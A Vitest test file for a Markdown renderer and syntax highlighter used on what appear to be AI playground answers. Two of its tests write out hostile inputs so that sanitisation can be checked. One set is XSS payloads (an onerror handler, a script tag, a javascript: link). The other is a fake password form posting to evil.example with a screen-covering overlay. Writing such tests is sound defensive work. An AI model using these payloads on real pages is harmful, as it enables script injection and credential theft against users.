import { describe, expect, it } from 'vitest';
import { highlightCode, renderAnswer } from './markdown';

describe('playground answers', () => {
  it('render Markdown with highlighted code blocks', () => {
    const html = renderAnswer('**bold** and `x`\n\n```js\nconst s = "hi"; // note\nreturn 42;\n```');
    expect(html).toContain('<strong>bold</strong>');
    expect(html).toContain('<code>x</code>');
    expect(html).toContain('<pre class="mg-code"><code class="language-js">');
    expect(html).toContain('<span class="mg-hl-keyword">const</span>');
    expect(html).toContain('<span class="mg-hl-string">"hi"</span>');
    expect(html).toContain('<span class="mg-hl-comment">// note</span>');
    expect(html).toContain('<span class="mg-hl-number">42</span>');
  });

  it('are sanitised: a prompt cannot make the answer run script', () => {
    const html = renderAnswer('<img src=x onerror="alert(1)"><script>alert(2)</script>[a](javascript:alert(3))');
    expect(html).not.toMatch(/onerror|<script|javascript:/);
  });

  it('cannot dress up as the console: no forms, no styles', () => {
    const html = renderAnswer('<form action="https://evil.example"><input name="password"><button>Sign in</button></form><style>body{display:none}</style><div style="position:fixed;inset:0">cover</div>');
    expect(html).not.toMatch(/<form|<input|<button|<style|style=/);
    expect(html).toContain('cover');
  });

  it('escape code, and keep # as text outside hash-comment languages', () => {
    expect(highlightCode('a < b && c', 'js')).toBe('a &#60; b &#38;&#38; c');
    expect(highlightCode('# heading', 'python')).toBe('<span class="mg-hl-comment"># heading</span>');
    expect(highlightCode('color: #fff', 'css')).toBe('color: #fff');
  });
});
